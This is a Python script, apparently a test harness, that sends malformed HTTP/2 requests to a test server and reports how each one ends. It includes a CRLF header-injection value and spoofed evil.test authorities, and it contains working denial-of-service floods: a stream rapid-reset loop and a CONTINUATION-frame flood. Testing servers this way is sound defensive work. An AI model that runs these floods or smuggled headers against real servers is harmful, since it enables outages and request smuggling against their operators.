"""HTTP/2 as no client says it. usage: http2_attacks.py PORT CA ATTACK [WORD]; connects to web.test and prints how it ends."""
import socket
import ssl
import struct
import sys

import h2.config
import h2.connection
import h2.events

port, ca, attack = int(sys.argv[1]), sys.argv[2], sys.argv[3]
word = sys.argv[4] if sys.argv[4:] else ""
context = ssl.create_default_context(cafile=ca)
context.set_alpn_protocols(["h2"])
raw = socket.create_connection(("web.test", port), timeout=20)
try:
    connection = context.wrap_socket(raw, server_hostname="web.test")
except OSError as problem:
    print("no TLS:", type(problem).__name__)
    sys.exit()
session = h2.connection.H2Connection(h2.config.H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False))
session.initiate_connection()
connection.sendall(session.data_to_send())


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(path="/attack", authority="web.test:%d" % port, method="GET", more=()):
    return [(":method", method), (":scheme", "https"), (":authority", authority), (":path", path)] + list(more)


def ask(headers, stream, ends=True):
    session.send_headers(stream, headers, end_stream=ends)
    connection.sendall(session.data_to_send())


def outcome(streams):  # what each comes to, or how the connection ends
    told = {}
    try:
        while len(told) < streams:
            data = connection.recv(65536)
            if not data:
                return told, "ended"
            for event in session.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    told[event.stream_id] = dict(event.headers).get(b":status", b"").decode()
                if isinstance(event, h2.events.StreamReset):
                    told.setdefault(event.stream_id, "reset")
                if isinstance(event, h2.events.ConnectionTerminated):
                    return told, "goaway"
            connection.sendall(session.data_to_send())
    except OSError as problem:
        return told, type(problem).__name__
    return told, ""


HEADS = {
    "authority": head(authority="evil.test"),
    "host": head(more=[("host", "evil.test")]),
    "crlf": head(more=[("x-a", "b\r\nhost: evil.test")]),
    "nul": head(more=[("x-a", "b\0c")]),
    "upper": head(more=[("X-Upper", "b")]),
    "connection": head(more=[("connection", "keep-alive")]),
    "encoding": head(more=[("transfer-encoding", "chunked")]),
    "connect": [(":method", "CONNECT"), (":authority", "evil.test:443")],
    "websocket": [(":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "https"), (":authority", "web.test:%d" % port), (":path", "/attack")],
    "absolute": head(path="https://evil.test/attack"),
    "path": head(path="/attack?" + word),
    "header": head(more=[("x-key", word)]),
}
if attack in HEADS:  # beside a good one on the same connection, which goes on
    ask(head(path="/good"), 1)
    ask(HEADS[attack], 3)
    told, end = outcome(2)
    print(told.get(1), told.get(3), end)
elif attack == "body":
    ask(head(method="POST", more=[("authorization", "Bearer " + word)]), 1, ends=False)
    for byte in ("key=" + word).encode():
        connection.sendall(frame(0, 0, 1, bytes([byte])))
    print(outcome(1))
elif attack == "trailer":
    ask(head(method="POST"), 1, ends=False)
    ask([("x-key", word)], 1)
    print(outcome(1))
elif attack in ("reset", "continuation"):
    try:
        if attack == "continuation":
            connection.sendall(frame(1, 1, 1, session.encoder.encode(head())))
        for stream in range(1, 20001, 2):
            if attack == "reset":
                session.send_headers(stream, head(path="/never"), end_stream=True)
                session.reset_stream(stream, 8)
                connection.sendall(session.data_to_send())
            else:
                connection.sendall(frame(9, 0, 1, b"\0\1x\1y" * 1000))
        connection.settimeout(5)
        while connection.recv(65536):
            pass
        print("ended")
    except TimeoutError:
        print("goes on")
    except OSError:
        print("ended")
